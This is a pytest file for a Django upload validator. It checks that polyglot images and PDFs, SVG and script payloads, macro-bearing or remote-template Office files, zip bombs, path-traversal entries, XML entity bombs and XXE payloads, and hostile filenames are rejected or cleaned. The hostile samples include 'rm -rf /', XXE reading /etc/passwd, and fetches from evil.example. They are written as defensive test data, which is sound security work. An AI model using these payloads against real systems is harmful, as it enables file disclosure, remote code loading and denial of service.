"""Files made to be two things, to burst, to lead elsewhere or to run: what is kept of each, and served as what."""

from __future__ import annotations

import io
import time
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from qingtian.apps.proceedings.models import StoredFile
from qingtian.errors import UnusableInput
from qingtian.secrecy import text_of
from qingtian.web.desk import packed as looked_into
from qingtian.web.desk.uploads import clean_name, judged
from tests.secrecy.papers import docx, packed, pdf, xlsx

SCRIPT = b"<script>alert(document.cookie)</script>"
OFD = "OFD.xml"


def picture(kind: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (90, 120, 150)).save(out, kind)
    return out.getvalue()


def archive(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name.replace("__", "/").replace("_xml", ".xml"), data)
    return out.getvalue()


# ---- two things at once


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
@pytest.mark.parametrize("trailer", [SCRIPT, archive(word__x_xml=b"<x/>"), b"%PDF-1.7 /JS (app.alert(1))"])
def test_a_picture_with_something_behind_it_is_redrawn_and_the_rest_is_gone(kind: str, trailer: bytes) -> None:
    data, extension, media_type = judged(picture(kind) + trailer)  # type: ignore[misc]
    assert (extension, media_type) == ("jpg", "image/jpeg")
    assert trailer[:20] not in data
    assert b"PK\x03\x04" not in data
    assert Image.open(io.BytesIO(data)).size == (40, 30)


def test_a_script_in_the_notes_of_a_picture_is_gone() -> None:
    out = io.BytesIO()
    Image.new("RGB", (40, 30)).save(out, "JPEG", comment=SCRIPT)
    assert SCRIPT in out.getvalue()
    assert SCRIPT not in judged(out.getvalue())[0]  # type: ignore[index]


@pytest.mark.parametrize(
    "content",
    [
        b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//",
        b"GIF89a" + SCRIPT,
        b"<!doctype html>" + SCRIPT,
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"\xef\xbb\xbf<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'/>",
        b"BM" + SCRIPT,
        b"MZ\x90\x00",
        b"\x7fELF",
        b"#!/bin/sh\nrm -rf /",
        b"  %PDF-1.7",
        archive(a_xml=b"<x/>"),
    ],
)
def test_what_is_no_photo_and_no_paper_is_not_kept_whatever_else_it_is(content: bytes) -> None:
    assert judged(content) is None


@pytest.mark.parametrize("beginning", [b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"RIFF\x00\x00\x00\x00WEBP"])
def test_the_beginning_of_a_picture_makes_no_picture(beginning: bytes) -> None:
    with pytest.raises(UnusableInput):
        judged(beginning + SCRIPT)


@pytest.mark.django_db(databases=["default", "identity"])
def test_a_pdf_that_is_a_web_page_and_an_archive_too_is_served_as_a_pdf_and_nothing_else(accepted, sign_in, form):
    both = pdf("窑湾") + archive(word__document_xml=b"<x/>") + SCRIPT
    upload = SimpleUploadedFile("a.html", both, "text/html")
    found = {"where": "厂区", "officers": "甲、乙", "findings": "夜里有味。"}
    filled = form(accepted, **found) | {"f_photos": [upload], "files_mark": "open"}
    client = sign_in("handler")
    assert client.post(f"/desk/{accepted.number}/act/investigate/", filled).status_code == 302
    stored = StoredFile.objects.latest("pk")
    answer = client.get(reverse("desk:file", args=[stored.pk]))
    assert stored.name == "a.pdf"
    assert answer["Content-Type"] == "application/pdf"
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert "object-src 'none'" in answer["Content-Security-Policy"]
    assert stored.path.resolve().is_relative_to(Path(settings.DATA).resolve() / "files")


# ---- what runs, fetches or bursts

REMOTE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'TargetMode="External" '
    b'Target="https://evil.example/t.dotm"/></Relationships>'
)
MACRO = b'<Types><Override PartName="/word/quiet.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'


@pytest.mark.parametrize(
    ("part", "data"),
    [
        ("word/vbaProject.bin", b"x"),
        ("word/VBAPROJECT.BIN", b"x"),
        ("sub/[Content_Types].xml", MACRO),
        ("word/_rels/settings.xml.rels", REMOTE),
        ("word/_rels/settings.xml.rels", REMOTE.decode().encode("utf-16")),
        ("../../../etc/cron.d/x", b"x"),
        ("word/..\\..\\x", b"x"),
        ("/etc/passwd", b"x"),
        ("C:\\x", b"x"),
    ],
)
@pytest.mark.parametrize("paper", [docx, xlsx])
def test_a_paper_that_runs_fetches_or_leads_out_is_not_kept(paper, part: str, data: bytes) -> None:
    assert judged(paper()) is not None
    assert judged(packed(paper(), part, data)) is None


def test_a_paper_that_unpacks_to_more_than_any_paper_is_not_kept(monkeypatch) -> None:
    monkeypatch.setattr(looked_into, "MOST_UNPACKED", 4_000_000)
    bomb = packed(docx(), "word/media/image1.png", b"\0" * 5_000_000)
    assert len(bomb) < 100_000
    began = time.perf_counter()
    assert judged(bomb) is None
    assert time.perf_counter() - began < 1


def test_a_paper_of_ten_thousand_parts_is_not_kept() -> None:
    many = archive(word__document_xml=b"<x/>", **{f"word__p{n}_xml": b"" for n in range(looked_into.MOST_PARTS)})
    assert judged(many) is None


def test_a_damaged_or_locked_archive_is_not_kept_and_breaks_nothing() -> None:
    good = docx()
    for cut in range(8, len(good), len(good) // 40):
        judged(good[:cut])
        judged(good[:cut] + b"\xff" * 40 + good[cut + 40 :])
    locked = bytearray(good)
    at = -1
    while (at := locked.find(b"PK\x01\x02", at + 1)) >= 0:
        locked[at + 8] |= 1  # "encrypted"
    assert judged(bytes(locked)) is None


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BOMBS = [
    f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]><x>&l9;</x>',
    f'<!DOCTYPE x [<!ENTITY q "{"q" * 50_000}">]><x>{"&q;" * 2_000}</x>',
    '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x><t>&f;</t></x>',
    '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>',
]


@pytest.mark.parametrize("bomb", BOMBS, ids=["laughs", "quadratic", "file", "network"])
@pytest.mark.parametrize("part", ["word/header7.xml", "xl/sharedStrings2.xml", "Doc_0/Document.xml"])
def test_entities_that_grow_or_read_files_are_not_followed(bomb: str, part: str) -> None:
    began = time.perf_counter()
    read = text_of(packed(docx(), part, bomb))
    assert (read.text, read.whole) == ("", False), "a paper with entities waits for a person to say what stands on it"
    assert time.perf_counter() - began < 2


# ---- names


@pytest.mark.parametrize(
    "name",
    [
        "../../../../etc/passwd",
        "..\\..\\windows\\system32\\x",
        "/etc/shadow",
        "C:\\autoexec.bat",
        "a\0.pdf",
        'x"\r\nSet-Cookie: a=b\r\n\r\n<script>.pdf',
        "invoice\u202efdp.exe",
        "a" * 4000,
        "....",
        " . ",
        "",
        "con:aux|<>*?.pdf",
        "\ud800.pdf",
    ],
)
def test_of_a_name_its_last_part_is_kept_without_anything_that_leads_or_misleads(name: str) -> None:
    kept = clean_name(name, "pdf")
    assert kept.endswith(".pdf")
    assert len(kept) <= 90
    assert not set(kept) & set('/\\:*?"<>|\r\n\0\u202e')
    assert not kept.startswith(".")
    assert kept.encode()
